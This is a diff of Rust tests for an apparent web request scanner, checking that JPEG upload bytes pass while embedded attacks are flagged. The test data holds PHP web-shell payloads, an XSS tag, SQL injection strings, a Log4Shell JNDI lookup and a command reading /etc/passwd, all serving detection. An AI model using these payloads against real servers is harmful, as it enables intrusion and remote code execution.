@@ -251,44 +251,65 @@ fn what_a_compressed_body_holds_is_read() {
     assert!(hits.iter().all(|hit| hit.score < THRESHOLD), "{hits:?}");
 }
 
-/// What is told of a file of these bytes that a form uploads.
-fn of_upload(content: &[u8]) -> Vec<Hit> {
+/// What is told of a part of a form with this disposition.
+fn of_part(disposition: &str, content: &[u8]) -> Vec<Hit> {
     let mut body =
-        b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n".to_vec();
+        format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n\r\n").into_bytes();
     body.extend_from_slice(content);
     body.extend_from_slice(b"\r\n--B--\r\n");
-    let kind = b"multipart/form-data; boundary=B";
-    hits(&Request {
+    of_raw(b"multipart/form-data; boundary=B", &body)
+}
+
+fn of_raw(content_type: &[u8], body: &[u8]) -> Vec<Hit> {
+    let mut told = hits(&Request {
         method: b"POST",
         target: b"/up",
-        content_type: kind,
-        body: &body,
+        content_type,
+        body,
         ..Request::default()
-    })
+    });
+    told.retain(|hit| hit.score >= THRESHOLD);
+    told
 }
+
+const FILE: &str = "name=\"f\"; filename=\"a.jpg\"";
 
 #[test]
 fn the_bytes_of_a_file_are_no_text() {
-    let picture = b"\xff\xd8\xff\xe0\0\x10JFIF\x01{{\x02;id\x07<%\x11|ls\x12`x`\0\x03${a}\x04' or 1\x05=1--\x01".repeat(9);
-    let escaped: String = picture
-        .iter()
-        .map(|b| match b {
-            b' '..=b'~' => char::from(*b).to_string(),
-            b => format!("\\x{b:02x}"),
-        })
-        .collect();
+    let picture = b"\xff\xd8\xff\xe0\0\x10JFIF\x01{{\x02;id\x07<%\x11|ls\x12`x`\0\x03${a}\x04' or 1\x05=1--\x01"
+        .repeat(9);
+    let written = |b: &u8| match b {
+        b' '..=b'~' => char::from(*b).to_string(),
+        b => format!("\\x{b:02x}"),
+    };
+    let escaped: String = picture.iter().map(written).collect();
     let replaced = String::from_utf8_lossy(&picture).into_owned();
     for bytes in [&picture[..], escaped.as_bytes(), replaced.as_bytes()] {
-        let loud: Vec<_> =
-            of_upload(bytes).into_iter().filter(|hit| hit.score >= THRESHOLD).collect();
-        assert!(loud.is_empty(), "{loud:?}");
-        let shell = [bytes, b"\0\0<?php system($_GET['c']); ?>\0"].concat();
-        let told = of_upload(&shell);
-        assert!(
-            told.iter().any(|hit| hit.kind == Kind::Code && hit.score >= THRESHOLD),
-            "{told:?}"
-        );
+        assert!(of_part(FILE, bytes).is_empty(), "{:?}", of_part(FILE, bytes));
+        assert!(of_raw(b"image/jpeg", bytes).is_empty());
+        for page in [
+            &b"\0<?php system($_GET['c']); ?>\0"[..],
+            b"\0<?php /*\x01*/system($_GET[0]);/*\x01*/",
+            b"\0<?\nsystem($_GET['c']); ?>",
+            b"\0<script>alert(1)</script>",
+        ] {
+            let told = of_part(FILE, &[bytes, page].concat());
+            assert!(!told.is_empty(), "{}", String::from_utf8_lossy(page));
+        }
     }
-    let text = of_upload(b"1' union select 1,2,3 -- ");
-    assert!(text.iter().any(|hit| hit.kind == Kind::Sqli), "{text:?}");
+}
+
+#[test]
+fn who_chooses_a_media_type_hides_nothing_behind_it() {
+    for (kind, body) in [
+        (&b"image/png"[..], &b"aaaaaaaaaaaaaaaaa${jndi:ldap://a.b/c}\\x\\x\\x\\x"[..]),
+        (b"foo/bar", b"a=aaaaaaaaaaaaaaaaaaa&z=\\x01\\x01\\x01\\x01\\x01&q=1'+or+1=1--+"),
+        (b"application/octet-stream", b"aaaaaaaaaaaaaaaaaaaaaa\x01\x01\x01\n;cat /etc/passwd;\n"),
+    ] {
+        assert!(!of_raw(kind, body).is_empty(), "{}", String::from_utf8_lossy(body));
+    }
+    let field = b"aaaaaaaaaaaaaaaa' or 1=1 -- \x01\x01\x01";
+    for disposition in ["name=\"filename\"", "name=\"id\"\r\nX: filename", FILE] {
+        assert!(!of_part(disposition, field).is_empty(), "{disposition}");
+    }
 }
